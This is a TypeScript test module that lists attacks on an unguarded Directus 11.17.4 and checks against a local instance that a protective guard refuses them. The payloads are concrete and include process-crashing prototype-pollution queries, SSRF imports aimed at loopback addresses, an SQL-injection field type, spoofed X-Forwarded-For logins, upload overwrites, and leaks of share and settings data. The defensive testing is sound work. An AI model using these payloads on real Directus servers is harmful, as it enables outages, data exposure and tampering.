import { request as httpRequest } from 'node:http';
import type { Answer, Body } from '../harness/directus.js';
import { attacksOnHiddenRows } from './hidden-rows.js';
import { fresh, noteFlow, type Caller, type Situation } from './situation.js';

/** What came of an attempt. */
export interface Outcome {
	/** Whether it did what it should not. */
	readonly harmed: boolean;
	readonly status: number;
	/** The part of the guard that refused it, where one did. */
	readonly guard: string | null;
	/** The beginning of the answer, for the title of a failure. */
	readonly said: string;
}

export interface Attack {
	/** The entry of the guard's declaration. */
	readonly entry: string;
	readonly name: string;
	readonly by: readonly Caller[];
	/** Whether it ends the process of an unguarded Directus. */
	readonly lethal?: boolean;
	/** Whether the host itself refuses it in this version; then it is kept as a regression test only. */
	readonly heldByHost?: boolean;
	readonly attempt: (situation: Situation, caller: Caller) => Promise<Outcome>;
}

/** Whoever comes first tries it on the unguarded Directus too, and succeeds there. */
const everybody: readonly Caller[] = ['anonymous', 'sales', 'sales.manager'];
const peopleFirst: readonly Caller[] = ['sales', 'sales.manager', 'anonymous'];

const guardOf = (body: unknown): string | null => {
	const errors = (body as { errors?: readonly { extensions?: { guard?: string } }[] } | null)?.errors;
	return errors?.[0]?.extensions?.guard ?? null;
};
const outcome = ({ status, body }: Answer<unknown>, harmed: boolean): Outcome => ({
	harmed,
	status,
	guard: guardOf(body),
	said: `${status} ${JSON.stringify(body ?? '').slice(0, 300)}`,
});

/** An attempt whose answer alone shows that it succeeded. */
const succeeded = (answer: Answer<unknown>): Outcome =>
	outcome(answer, answer.status < 300 && (answer.body as { errors?: unknown } | null)?.errors === undefined);

/** Sends a request that may end the process, and waits to see. */
async function survived(situation: Situation, send: () => Promise<Answer<unknown>>): Promise<Outcome> {
	let answer: Answer<unknown> | null = null;
	try {
		answer = await send();
	} catch {
		// The connection broke: the process may be gone.
	}
	for (let waited = 0; waited < 1500 && situation.directus.isRunning(); waited += 100) {
		await new Promise((resolve) => setTimeout(resolve, 100));
		if (answer !== null && answer.status >= 400 && guardOf(answer.body) !== null) break;
	}
	const dead = !situation.directus.isRunning();
	return answer === null ? { harmed: dead, status: 0, guard: null, said: 'no answer' } : outcome(answer, dead);
}

/** Sends a request whose path is left exactly as it is. */
export async function rawStatus(
	url: string,
	method: string,
	path: string,
	body = '',
	headers: Readonly<Record<string, string>> = {},
): Promise<number> {
	const { hostname, port } = new URL(url);
	return new Promise((resolve, reject) => {
		const sent = httpRequest(
			{
				hostname,
				port,
				method,
				path,
				headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), ...headers },
			},
			(response) => {
				response.resume();
				response.once('end', () => resolve(response.statusCode ?? 0));
			},
		);
		sent.once('error', reject);
		sent.end(body);
	});
}

const names = { toString: { call: { _limit: 1 } } };
const namesAsText = '{"toString":{"call":{"_limit":1}}}';
const graphql = (situation: Situation, caller: Caller, scope: '' | '/system', query: string) =>
	situation.as(caller)<unknown>('POST', `/graphql${scope}`, { query });

const importCsv = (situation: Situation, caller: Caller, collection: string, content: string) => {
	const form = new FormData();
	form.append('file', new Blob([content], { type: 'text/csv' }), 'rows.csv');
	return situation.as(caller)<unknown>('POST', `/utils/import/${collection}`, form);
};

/** A flow whose steps are to stay linked. */
async function stepsComeApart(situation: Situation, send: (flow: string) => Promise<Answer<unknown>>): Promise<Outcome> {
	const flow = await noteFlow(situation.admin, { trigger: 'webhook', options: { method: 'GET' } });
	const answer = await send(flow);
	const linked = (await situation.directus.database('directus_operations').where({ flow }).whereNotNull('resolve')) as unknown[];
	await situation.admin.request('DELETE', `/flows/${flow}`);
	return outcome(answer, linked.length === 0);
}

async function senderIsLost(situation: Situation, caller: Caller): Promise<Outcome> {
	const { database } = situation.directus;
	const sender = situation.people['sales.manager'].user;
	const subject = fresh();
	await database('directus_notifications').insert({
		timestamp: new Date().toISOString(),
		status: 'inbox',
		recipient: situation.admin.user,
		sender,
		subject,
	});
	const answer = await situation.as(caller)<unknown>('DELETE', `/users/${sender}`);
	const row = (await database('directus_notifications').where({ subject }).first()) as { sender: string | null };
	return outcome(answer, row.sender === null);
}

async function ownerIsNamed(situation: Situation, caller: Caller, path: string): Promise<Outcome> {
	const { database } = situation.directus;
	await database('directus_settings').update({ project_status: null });
	const answer = await situation.as(caller)<unknown>('POST', path, {
		project_owner: 'stranger@example.com',
		project_usage: 'personal',
		org_name: 'Strangers',
		product_updates: false,
	});
	// The host writes the row once its report could not be delivered.
	for (let waited = 0; waited < 20_000; waited += 250) {
		const row = (await database('directus_settings').first()) as { project_status: string | null };
		if (row.project_status !== null) return outcome(answer, true);
		if (guardOf(answer.body) !== null) break;
		await new Promise((resolve) => setTimeout(resolve, 250));
	}
	return outcome(answer, false);
}

/** Who has made what somebody goes about: they themselves, or, for somebody from the street, a person of the company. */
const makerFor = (caller: Caller): Caller => (caller === 'anonymous' ? 'sales' : caller);

async function withShare(
	situation: Situation,
	caller: Caller,
	change: (share: string, values: Readonly<Record<string, unknown>>) => Promise<Answer<unknown>>,
	own: Readonly<Record<string, unknown>> = { user_created: situation.admin.user, role: situation.administratorRole },
): Promise<Outcome> {
	const { body } = await situation.as(makerFor(caller))('POST', '/shares', {
		name: 'Share',
		collection: 'kept_notes',
		item: String(situation.note),
	});
	const share = String(body.data['id']);
	const answer = await change(share, own);
	const row = (await situation.directus.database('directus_shares').where({ id: share }).first()) as Record<string, unknown>;
	return outcome(
		answer,
		Object.entries(own).some(([field, value]) => row[field] === value),
	);
}

async function withComment(
	situation: Situation,
	caller: Caller,
	change: (comment: string, values: Readonly<Record<string, unknown>>) => Promise<Answer<unknown>>,
	own: Readonly<Record<string, unknown>>,
): Promise<Outcome> {
	const { body } = await situation.as(makerFor(caller))('POST', '/comments', {
		comment: 'Mine',
		collection: 'kept_notes',
		item: String(situation.note),
	});
	const comment = String(body.data['id']);
	const answer = await change(comment, own);
	const row = (await situation.directus.database('directus_comments').where({ id: comment }).first()) as Record<string, unknown>;
	return outcome(
		answer,
		Object.entries(own).some(([field, value]) => row[field] === value),
	);
}

const input = (values: Readonly<Record<string, unknown>>): string =>
	Object.entries(values)
		.map(([field, value]) => `${field}: ${JSON.stringify(value)}`)
		.join(', ');

/** Everything known to work against an unguarded Directus 11.17.4 with its own defaults. */
export const attacks: readonly Attack[] = [
	{
		entry: 'built-in-names',
		name: 'in the query string, as JSON',
		by: everybody,
		lethal: true,
		attempt: (situation, caller) =>
			survived(situation, () => situation.as(caller)('GET', `/server/info?deep=${encodeURIComponent(namesAsText)}`)),
	},
	{
		entry: 'built-in-names',
		name: 'in the query string, as JSON inside brackets',
		by: everybody,
		lethal: true,
		attempt: (situation, caller) =>
			survived(situation, () => situation.as(caller)('GET', `/server/info?deep[a][_deep]=${encodeURIComponent(namesAsText)}`)),
	},
	{
		entry: 'built-in-names',
		name: 'in the body of a SEARCH',
		by: everybody,
		lethal: true,
		attempt: (situation, caller) =>
			survived(situation, () => situation.as(caller)('SEARCH', '/items/open_notes', { query: { deep: names } })),
	},
	{
		entry: 'built-in-names',
		name: 'in the body of an update by query',
		by: everybody,
		lethal: true,
		attempt: (situation, caller) =>
			survived(situation, () => situation.as(caller)('PATCH', '/items/open_notes', { query: { deep: namesAsText }, data: { title: 'x' } })),
	},
	{
		entry: 'built-in-names',
		name: 'in the body of an export',
		by: everybody,
		lethal: true,
		attempt: (situation, caller) =>
			survived(situation, () =>
				situation.as(caller)('POST', '/utils/export/open_notes', { query: { deep: names }, format: 'csv', file: { title: 'x' } }),
			),
	},
	{
		entry: 'built-in-names',
		name: 'in the header of a CSV file',
		by: peopleFirst,
		lethal: true,
		attempt: (situation, caller) => survived(situation, () => importCsv(situation, caller, 'crm_customers', 'name,toString.call\nA,1\n')),
	},
	{
		entry: 'built-in-names',
		name: 'in GraphQL, as an alias',
		by: peopleFirst,
		attempt: async (situation, caller) =>
			succeeded(await graphql(situation, caller, '', '{ crm_contracts { toString: customer { contacts(limit: 1) { id } } } }')),
	},
	{
		entry: 'unreadable-nested-query',
		name: 'in the query string, in brackets',
		by: everybody,
		lethal: true,
		attempt: (situation, caller) => survived(situation, () => situation.as(caller)('GET', '/server/info?deep[a][_filter]={bad')),
	},
	{
		entry: 'unreadable-nested-query',
		name: 'in the body of a SEARCH',
		by: everybody,
		lethal: true,
		attempt: (situation, caller) =>
			survived(situation, () =>
				situation.as(caller)('SEARCH', '/items/open_notes', { query: { deep: { a: { _fields: { not: 'a list' } } } } }),
			),
	},
	{
		entry: 'unreadable-nested-query',
		name: 'with a filter only the database can judge',
		by: everybody,
		lethal: true,
		attempt: (situation, caller) =>
			survived(situation, () =>
				situation.as(caller)('GET', `/server/info?deep=${encodeURIComponent('{"a":{"_filter":{"_and":{"b":1}}}}')}`),
			),
	},
	...(
		[
			['one by one', (situation, caller, flow) => situation.as(caller)('DELETE', `/flows/${flow}`)],
			['in other letters', (situation, caller, flow) => situation.as(caller)('DELETE', `/FLOWS/${flow}/`)],
			['in a batch', (situation, caller, flow) => situation.as(caller)('DELETE', '/flows', [flow])],
			['by keys', (situation, caller, flow) => situation.as(caller)('DELETE', '/flows', { keys: [flow] })],
		] satisfies [string, (situation: Situation, caller: Caller, flow: string) => Promise<Answer<unknown>>][]
	).map(([name, send]): Attack => ({
		entry: 'refused-deletes',
		name: `of a flow, ${name}`,
		by: everybody,
		attempt: (situation, caller) => stepsComeApart(situation, (flow) => send(situation, caller, flow)),
	})),
	{
		entry: 'refused-deletes',
		name: 'of a flow, in GraphQL',
		by: peopleFirst,
		heldByHost: true,
		attempt: (situation, caller) =>
			stepsComeApart(situation, (flow) => graphql(situation, caller, '/system', `mutation { delete_flows_item(id: "${flow}") { id } }`)),
	},
	{ entry: 'refused-deletes', name: 'of a person', by: everybody, attempt: senderIsLost },
	...['/settings/owner', '/Settings/OWNER/'].map((path): Attack => ({
		entry: 'settings-owner',
		name: path,
		by: everybody,
		attempt: (situation, caller) => ownerIsNamed(situation, caller, path),
	})),
	...['/utils/hash/generate', '/UTILS/Hash/Generate/'].map((path): Attack => ({
		entry: 'costly-hashes',
		name: `made at ${path}`,
		by: everybody,
		attempt: async (situation, caller) => succeeded(await situation.as(caller)('POST', path, { string: 'x' })),
	})),
	{
		entry: 'costly-hashes',
		name: 'checked',
		by: everybody,
		attempt: async (situation, caller) =>
			succeeded(
				await situation.as(caller)('POST', '/utils/hash/verify', {
					string: 'x',
					hash: '$argon2id$v=19$m=65536,t=3,p=4$c29tZXNhbHQxMjM0NTY3OA$Gpb5rFJhU8vEvLEQpVBmkSMvzhVUgaLcqhLFqMfQ2Xk',
				}),
			),
	},
	{
		entry: 'costly-hashes',
		name: 'made in GraphQL',
		by: everybody,
		attempt: async (situation, caller) =>
			succeeded(await graphql(situation, caller, '/system', 'mutation { utils_hash_generate(string: "x") }')),
	},
	{
		entry: 'costly-hashes',
		name: 'of a sign-in that is repeated in one GraphQL request',
		by: everybody,
		attempt: async (situation, caller) => {
			const login = 'auth_login(email: "gm@example.com", password: "wrong") { access_token }';
			const answer = await graphql(situation, caller, '/system', `mutation { a: ${login} b: ${login} }`);
			const errors = (answer.body as { errors?: readonly { extensions?: { code?: string } }[] } | null)?.errors ?? [];
			return outcome(answer, errors.filter(({ extensions }) => extensions?.code === 'INVALID_CREDENTIALS').length > 1);
		},
	},
	...(
		[
			['by width and height', 'width=7000&height=7000&fit=cover'],
			['in scientific notation', 'width=7e3&height=7e3&fit=cover'],
			['by free transformations', `transforms=${encodeURIComponent('[["resize",{"width":7000,"height":7000}]]')}`],
			['on top of a preset', 'key=system-small-cover&width=7000&height=7000'],
		] as const
	).map(([name, query]): Attack => ({
		entry: 'image-sizes',
		name,
		by: peopleFirst,
		attempt: async (situation, caller) => {
			// Even where the project's setting was opened up.
			await situation.directus.database('directus_settings').update({ storage_asset_transform: 'all' });
			const answer = await situation.as(caller)<unknown>('GET', `/Assets/${situation.image}?${query}`);
			await situation.directus.database('directus_settings').update({ storage_asset_transform: 'presets' });
			return outcome(answer, answer.status === 200);
		},
	})),
	{
		entry: 'flows-without-sign-in',
		name: 'by its id',
		by: ['anonymous'],
		attempt: async (situation) => {
			const before = await situation.runs();
			const answer = await situation.as('anonymous')<unknown>('POST', `/flows/trigger/${situation.manualFlow}`, {
				collection: 'open_notes',
				keys: [1],
			});
			for (let waited = 0; waited < 3000 && (await situation.runs()) === before && answer.status < 300; waited += 100)
				await new Promise((resolve) => setTimeout(resolve, 100));
			return outcome(answer, (await situation.runs()) > before);
		},
	},
	{
		entry: 'flows-without-sign-in',
		name: 'for records the caller may not read',
		by: everybody,
		heldByHost: true,
		attempt: async (situation, caller) => {
			const collection = 'directus_access';
			const flow = await noteFlow(situation.admin, { trigger: 'manual', options: { collections: [collection], requireSelection: false } });
			const before = situation.runs();
			const answer = await situation.as(caller)<unknown>('POST', `/flows/trigger/${flow}`, { collection, keys: [] });
			const ran = (await situation.runs()) > (await before);
			await situation.admin.request('DELETE', `/flows/${flow}`);
			return outcome(answer, ran || answer.status < 300);
		},
	},
	...['0.0.0.0', '127.0.0.1', '[::]', '[::1]', '[::ffff:127.0.0.1]', '0'].map((address): Attack => ({
		entry: 'imports-from-inside',
		name: `at ${address}`,
		by: peopleFirst,
		heldByHost: address !== '0.0.0.0',
		attempt: async (situation, caller) => {
			const before = situation.inside.visits();
			const answer = await situation.as(caller)<unknown>('POST', '/files/import', {
				url: `http://${address}:${situation.inside.port}/x.txt`,
				data: {},
			});
			return outcome(answer, situation.inside.visits() > before);
		},
	})),
	{
		entry: 'answers-of-shares',
		name: 'from the cache',
		by: everybody,
		attempt: async (situation, caller) => {
			const { directus, admin, note } = situation;
			const share = await admin.request('POST', '/shares', { name: 'S', collection: 'kept_notes', item: String(note), role: null });
			await directus.database('directus_shares').where({ id: share.body.data['id'] }).update({ role: situation.administratorRole });
			const guest = await directus.request<Body<{ access_token: string }>>('POST', '/shares/auth', { share: share.body.data['id'] });
			const path = `/items/kept_notes/${note}?fields=id,secret`;
			const seen = await directus.request('GET', path, undefined, { token: guest.body.data.access_token });
			if (seen.status !== 200) throw new Error(`The guest of the share sees nothing: ${seen.status} ${JSON.stringify(seen.body)}`);
			return succeeded(await situation.as(caller)('GET', path));
		},
	},
	...(
		[
			['one by one', (situation, caller, id, values) => situation.as(caller)('PATCH', `/shares/${id}`, values)],
			['in a batch', (situation, caller, id, values) => situation.as(caller)('PATCH', '/shares', [{ id, ...values }])],
			['by keys', (situation, caller, id, values) => situation.as(caller)('PATCH', '/shares', { keys: [id], data: values })],
			[
				'in GraphQL',
				(situation, caller, id, values) =>
					graphql(situation, caller, '/system', `mutation { update_shares_item(id: "${id}", data: { ${input(values)} }) { id } }`),
			],
		] satisfies [
			string,
			(situation: Situation, caller: Caller, id: string, values: Readonly<Record<string, unknown>>) => Promise<Answer<unknown>>,
		][]
	).map(([name, change]): Attack => ({
		entry: 'shares-in-another-name',
		name,
		by: peopleFirst,
		attempt: (situation, caller) => withShare(situation, caller, (id, values) => change(situation, caller, id, values)),
	})),
	{
		entry: 'shares-with-a-higher-role',
		name: 'shows what its maker may not see',
		by: peopleFirst,
		heldByHost: true,
		attempt: async (situation, caller) => {
			const made = await situation.as(caller)<Partial<Body>>('POST', '/shares', {
				name: 'Higher',
				collection: 'kept_notes',
				item: String(situation.note),
				role: situation.administratorRole,
			});
			const share = made.body.data?.['id'];
			if (share === undefined) return outcome(made, false);
			const guest = await situation.directus.request<Partial<Body<{ access_token: string }>>>('POST', '/shares/auth', {
				share,
			});
			const token = guest.body.data?.access_token;
			const answer = await situation.directus.request<unknown>(
				'GET',
				`/items/kept_notes/${situation.note}?fields=secret`,
				undefined,
				token === undefined ? {} : { token },
			);
			return succeeded(answer);
		},
	},
	{
		entry: 'resumable-uploads',
		name: 'are written over the file of somebody else',
		by: peopleFirst,
		attempt: async (situation, caller) => {
			const form = new FormData();
			form.append('file', new Blob(['of an administrator'], { type: 'text/plain' }), 'kept.txt');
			const kept = await situation.admin.request('POST', '/files', form);
			const place = String(kept.body.data['filename_disk']);
			const inBase64 = (value: string): string => Buffer.from(value).toString('base64');
			const answer = await situation.as(caller)<unknown>('POST', '/files/tus', undefined, {
				headers: {
					'tus-resumable': '1.0.0',
					'upload-length': '5',
					'upload-metadata': `filename_download ${inBase64('x.txt')},type ${inBase64('text/plain')},filename_disk ${inBase64(place)}`,
				},
			});
			const there = (await situation.directus.database('directus_files').where({ filename_disk: place })) as unknown[];
			return outcome(answer, there.length > 1);
		},
	},
	...(
		[
			['over REST', (situation, caller) => situation.as(caller)('GET', '/settings?fields=*')],
			['in GraphQL', (situation, caller) => graphql(situation, caller, '/system', '{ settings { project_owner ai_system_prompt } }')],
		] satisfies [string, (situation: Situation, caller: Caller) => Promise<Answer<unknown>>][]
	).map(([name, send]): Attack => ({
		entry: 'settings-for-everybody',
		name,
		by: peopleFirst,
		attempt: async (situation, caller) => {
			await situation.directus
				.database('directus_settings')
				.update({ project_owner: 'owner@example.com', ai_system_prompt: 'Confidential prompt' });
			const answer = await send(situation, caller);
			const text = JSON.stringify(answer.body);
			return outcome(answer, text.includes('owner@example.com') || text.includes('Confidential prompt'));
		},
	})),
	...(['/ai/chat', '/mcp'] as const).map((path): Attack => ({
		entry: 'assistant-fetches',
		name: path,
		by: peopleFirst,
		attempt: async (situation, caller) => {
			const answer = await situation.as(caller)<unknown>('POST', path, { messages: [] });
			return outcome(answer, answer.status !== 404);
		},
	})),
	{
		entry: 'geometry-types',
		name: 'in a new field',
		by: everybody,
		heldByHost: true,
		attempt: async (situation, caller) =>
			succeeded(
				await situation.as(caller)('POST', '/fields/open_notes', { field: 'place', type: "geometry.Point', 1); --", meta: {}, schema: {} }),
			),
	},
	{
		entry: 'invented-addresses',
		name: 'in X-Forwarded-For',
		by: everybody,
		attempt: async (situation, caller) => {
			const { directus } = situation;
			const answer = await situation.as(caller)<unknown>(
				'POST',
				'/auth/login',
				{ email: 'gm@example.com', password: 'crm-demo-2026' },
				{ headers: { 'x-forwarded-for': '203.0.113.9' } },
			);
			const session = (await directus.database('directus_sessions').where({ ip: '203.0.113.9' })) as unknown[];
			await directus.database('directus_sessions').where({ ip: '203.0.113.9' }).delete();
			return outcome(answer, session.length > 0);
		},
	},
	...(
		[
			['one by one', (situation, caller, id, values) => situation.as(caller)('PATCH', `/comments/${id}`, values)],
			['in a batch', (situation, caller, id, values) => situation.as(caller)('PATCH', '/comments', [{ id, ...values }])],
			[
				'in GraphQL',
				(situation, caller, id, values) =>
					graphql(situation, caller, '/system', `mutation { update_comments_item(id: "${id}", data: { ${input(values)} }) { id } }`),
			],
		] satisfies [
			string,
			(situation: Situation, caller: Caller, id: string, values: Readonly<Record<string, unknown>>) => Promise<Answer<unknown>>,
		][]
	).flatMap(([name, change]) =>
		(['user_created', 'item'] as const).map((field): Attack => ({
			entry: 'comments-in-another-name',
			name: `${name}, field ${field}`,
			by: peopleFirst,
			attempt: (situation, caller) =>
				withComment(situation, caller, (id, values) => change(situation, caller, id, values), {
					[field]: field === 'item' ? '4711' : situation.admin.user,
				}),
		})),
	),
	{
		entry: 'drafts-by-readers',
		name: 'are saved',
		by: peopleFirst,
		attempt: async (situation, caller) => {
			const title = fresh();
			const answer = await situation.as(caller)<unknown>('POST', `/Versions/${situation.version}/SAVE/`, { title });
			const row = (await situation.directus.database('directus_versions').where({ id: situation.version }).first()) as { delta: unknown };
			return outcome(answer, JSON.stringify(row.delta ?? '').includes(title));
		},
	},
	...attacksOnHiddenRows,
];

/** The same, by the entry of the guard's declaration they are about. */
export const attacksByEntry: readonly (readonly [entry: string, attacks: readonly Attack[]])[] = [
	...new Set(attacks.map(({ entry }) => entry)),
].map((entry) => [entry, attacks.filter((attack) => attack.entry === entry)]);
